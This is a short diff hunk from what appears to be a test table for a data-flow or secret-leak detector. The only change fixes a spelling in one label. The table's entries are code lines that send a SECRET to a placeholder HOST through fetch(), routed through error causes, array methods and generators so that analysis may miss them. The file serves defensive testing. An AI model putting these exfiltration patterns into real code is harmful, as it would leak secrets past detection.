@@ -65,7 +65,7 @@ const FLOWS: readonly DataFlow[] = [
 		"the cause of an error",
 		`try { throw new Error("x", { cause: SECRET }); } catch (error) { fetch("HOST/" + error.cause); }`,
 	],
-	["a method that is not modelled", `fetch("HOST/" + [1, 2].toSpliced(0, 1, SECRET).join());`],
+	["a method that is not modeled", `fetch("HOST/" + [1, 2].toSpliced(0, 1, SECRET).join());`],
 	["a helper of iterators", `function* parts() { yield SECRET; } fetch("HOST/" + parts().take(1).toArray()[0]);`],
 	[
 		"functions in a row",
